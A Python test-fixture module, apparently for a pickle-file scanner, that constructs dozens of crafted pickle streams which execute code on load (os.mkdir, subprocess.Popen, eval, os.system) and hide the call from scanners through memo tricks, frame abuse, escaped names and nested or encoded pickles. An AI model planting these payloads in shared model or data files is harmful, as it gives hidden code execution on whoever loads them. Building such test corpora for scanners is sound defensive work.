"""Pickle streams that run code, and hide it from scanners. The payload makes a folder `executed`.

`CASES` builds each; `LOADERS` says which real loader executes it (`test_pickle_stream_attacks`
proves it in a process of its own). A case without one only stores what something else would run.
"""

from __future__ import annotations

import base64
import pickle
import struct
import zlib
from collections.abc import Callable

CALL = b"cos\nmkdir\n(S'executed'\ntR"
"""Without STOP."""
EVIL = CALL + b"."


def _frame(size: int) -> bytes:
    return b"\x95" + struct.pack("<Q", size)


def _short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def _stack_global(module: str, name: str) -> bytes:
    return _short(module) + _short(name) + b"\x93"


def _wrapper(shape: tuple[int, ...], dtype: str, **more: object) -> bytes:
    """The opcodes of a joblib array wrapper, up to its BUILD."""
    import numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper

    made = NumpyArrayWrapper(np.ndarray, shape, "C", np.dtype(dtype), **more)
    return pickle.dumps(made, 2)[:-1]


def _array_of_objects() -> bytes:
    return _wrapper((1,), "O") + EVIL + b"."


def _array_of_opcodes() -> bytes:
    raw = b"0" + EVIL
    return _wrapper((len(raw),), "u1", numpy_array_alignment_bytes=None) + raw + b"."


def _text_constant(raw: bytes) -> bytes:
    return b"\x80\x04" + _short("a" * 30) + b"\x85B" + struct.pack("<I", len(raw)) + raw + b"\x86."


CASES: dict[str, Callable[[], bytes]] = {
    "global_reduce": EVIL.__bytes__,
    "inst_instead_of_reduce": lambda: b"(S'executed'\nios\nmkdir\n.",
    "obj_instead_of_reduce": lambda: b"(cos\nmkdir\nS'executed'\no.",
    "newobj_of_a_process": lambda: b"\x80\x02csubprocess\nPopen\n(]S'mkdir'\naS'executed'\natR.",
    "broken_after_the_call": lambda: CALL + b"X\xff\xff\xff\xff",
    "unknown_opcode_after_the_call": lambda: CALL + b"\xff.",
    "no_stop": lambda: CALL,
    "stack_underflow_after_the_call": lambda: CALL + b"00000.",
    "second_pickle": lambda: pickle.dumps({"weights": [1.0, 2.0]}) + EVIL,
    "second_pickle_behind_a_frame": lambda: (
        b"\x80\x04" + _frame(10) + b"N.\xff\xff\xff\xff\xff\xff\xff\xff" + EVIL
    ),
    "memo_of_the_pickle_before": lambda: (
        b"S'os'\np0\nS'mkdir'\np1\n.h\x00h\x01\x93(S'executed'\ntR."
    ),
    "stack_global": lambda: (
        b"\x80\x04" + _stack_global("os", "mkdir") + _short("executed") + b"\x85R."
    ),
    "names_through_the_memo": lambda: (
        b"\x80\x04"
        + _short("mkdir")
        + b"\x94"
        + _short("os")
        + b"\x94h\x01h\x00\x93"
        + _short("executed")
        + b"\x85R."
    ),
    "memo_overwritten_before_get": lambda: (
        b"\x80\x04"
        + _short("json")
        + b"q\x05"
        + _short("os")
        + b"q\x05h\x05"
        + _short("mkdir")
        + b"\x93"
        + _short("executed")
        + b"\x85R."
    ),
    "names_duplicated": lambda: (
        b"\x80\x04"
        + _short("os")
        + b"2"
        + b"2"
        + _short("mkdir")
        + b"\x93"
        + _short("executed")
        + b"\x85R."
    ),
    "dotted_name": lambda: (
        b"\x80\x04" + _stack_global("shutil", "os.mkdir") + _short("executed") + b"\x85R."
    ),
    "unicode_escapes_in_names": lambda: (
        b"\x80\x04V\\u006f\\u0073\nVmk\\u0064ir\n\x93" + _short("executed") + b"\x85R."
    ),
    "bytes_of_python_2_as_names": lambda: b"\x80\x04U\x02osU\x05mkdir\x93U\x08executed\x85R.",
    "escapes_in_a_string_as_names": lambda: b"S'\\157\\x73'\nS'mk\\144ir'\n\x93(S'executed'\ntR.",
    "python_2_names": lambda: b"c__builtin__\neval\n(S\"__import__('os').mkdir('executed')\"\ntR.",
    "proto_in_the_middle": lambda: (
        b"\x80\x05N0\x80\x02c__builtin__\neval\n(S\"__import__('os').mkdir('executed')\"\ntR."
    ),
    "proto_byte_zero": lambda: b"\x80\x00" + EVIL,
    "name_without_line_end": lambda: b"(S'executed'\nios\nmkdirX",
    "argument_across_frames": lambda: (
        b"\x80\x04" + _frame(5) + b"cjsonos\nmkdir\n" + _short("executed") + b"\x85R."
    ),
    "frame_longer_than_the_file": lambda: (
        b"\x80\x04"
        + _frame(1 << 20)
        + _stack_global("os", "mkdir")
        + _short("executed")
        + b"\x85R."
    ),
    "null_byte_in_a_memo_index": lambda: (
        b"S'os'\np0\x00zz\nS'mkdir'\np1\n00g0\x00x\ng1\n\x93(S'executed'\ntR."
    ),
    "memo_index_with_underscores": lambda: b"S'os'\np1_0\n0g 10\nS'mkdir'\n\x93(S'executed'\ntR.",
    "memo_index_beyond_64_bits": lambda: (
        b"S'os'\np99999999999999999999999\n0g99999999999999999999999\nS'mkdir'\n\x93(S'executed'\ntR."
    ),
    "arguments_in_a_list": lambda: b"cos\nmkdir\n(S'executed'\nlR.",
    "octal_number_before_it": lambda: b"I0777\n0" + EVIL,
    "behind_a_string_that_is_not_ascii": lambda: b"U\x01\xe90" + EVIL,
    "behind_a_line_of_text": lambda: b"V# Model card: harmless\n0" + EVIL,
    "behind_a_million_opcodes": lambda: b"N0" * 1_000_000 + EVIL,
    "partial": lambda: b"cfunctools\npartial\n(cos\nmkdir\nS'executed'\ntR)R.",
    "map_over_a_list": lambda: (
        b"cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nmkdir\n(S'executed'\nltRtR."
    ),
    "getattr_of_a_module": lambda: (
        b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'mkdir'\ntR(S'executed'\ntR."
    ),
    "extension_code": lambda: (
        b"ccopyreg\nadd_extension\n(S'os'\nS'mkdir'\nI240\ntR0\x82\xf0(S'executed'\ntR."
    ),
    "setstate_set_by_a_state": lambda: (
        b"\x80\x02cargparse\nNamespace\n)\x81}S'__setstate__'\ncos\nmkdir\nsbS'executed'\nb."
    ),
    "append_set_by_a_state": lambda: (
        b"\x80\x02cargparse\nNamespace\n)\x81}S'append'\ncos\nmkdir\nsbS'executed'\na."
    ),
    "pickle_in_a_pickle": lambda: b"c_pickle\nloads\n(C" + bytes([len(EVIL)]) + EVIL + b"tR.",
    "array_of_objects": _array_of_objects,
    "array_of_opcodes": _array_of_opcodes,
    "class_is_changed": lambda: b"cjson.decoder\nJSONDecoder\n(N}S'decode'\ncos\nsystem\nstb.",
    "modules_are_changed": lambda: b"csys\nmodules\nS'json'\ncos\nsystem\ns.",
    "environment_is_changed": lambda: b"cos\nenviron\nS'PATH'\nS'/tmp'\ns.",
    "import_alone": lambda: b"cantigravity\nfly\n.",
    "import_then_broken": lambda: b"\x80\x02cantigravity\nfly\nX",
    "name_that_is_not_ascii": lambda: "c\u03bfs\nmkdir\n(S'executed'\ntR.".encode("utf-8"),
    "constant_holds_a_pickle": lambda: _text_constant(b"\x80\x02" + EVIL),
    "constant_holds_a_pickle_in_base64": lambda: _text_constant(
        base64.b64encode(b"\x80\x02" + EVIL)
    ),
    "constant_holds_a_pickle_in_hexadecimal": lambda: _text_constant(
        (b"\x80\x02" + EVIL).hex().encode()
    ),
    "constant_holds_a_compressed_pickle": lambda: _text_constant(zlib.compress(b"\x80\x02" + EVIL)),
    "constant_holds_a_pickle_of_protocol_0": lambda: _text_constant(EVIL),
}
_PLAIN = "pickle.load(open(path, 'rb'))"
_PYTHON = "pickle._Unpickler(open(path, 'rb')).load()"
_IN_MEMORY = "file = io.BytesIO(open(path, 'rb').read()); pickle.load(file); pickle.load(file)"
_SAME = "loader = pickle.Unpickler(open(path, 'rb')); loader.load(); loader.load()"
_TWICE = "file = open(path, 'rb'); pickle.load(file); pickle.load(file)"
LOADERS: dict[str, str] = {
    **dict.fromkeys(CASES, _PLAIN),
    "second_pickle": _TWICE,
    "second_pickle_behind_a_frame": _IN_MEMORY,
    "memo_of_the_pickle_before": _SAME,
    "name_without_line_end": _PYTHON,
    "argument_across_frames": "pickle.load(io.BytesIO(open(path, 'rb').read()))",
    "frame_longer_than_the_file": _PYTHON,
    "memo_index_beyond_64_bits": _PYTHON,
    "arguments_in_a_list": _PYTHON,
    "behind_a_string_that_is_not_ascii": "pickle.load(open(path, 'rb'), encoding='latin1')",
    "array_of_objects": "joblib.load(path)",
}
"""Case → the statement that executes it."""
for _name in (
    "class_is_changed",
    "modules_are_changed",
    "environment_is_changed",
    "import_alone",
    "import_then_broken",
    "name_that_is_not_ascii",
    *(name for name in CASES if name.startswith("constant_")),
):
    del LOADERS[_name]
